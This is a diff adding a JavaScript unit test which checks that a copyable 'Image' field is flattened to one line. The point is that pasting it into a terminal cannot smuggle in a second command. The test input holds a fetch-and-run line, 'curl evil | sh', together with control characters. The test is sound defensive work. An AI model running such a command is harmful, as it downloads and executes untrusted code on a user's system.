@@ -86,3 +86,8 @@ test("sums since its start are told as far as they are known", () => {
   assert.equal(values["Disk since start"], "3.00 GiB read · 0 B written");
   assert.equal(values["Network since start"], undefined);
 });
+
+test("what is copied is one line, as a terminal runs what is pasted line by line", () => {
+  const { told } = rows({ image: "a\ncurl evil | sh\r\n\u001b[31m" });
+  assert.equal(told.find(({ label }) => label === "Image")?.copy, "a curl evil | sh [31m");
+});
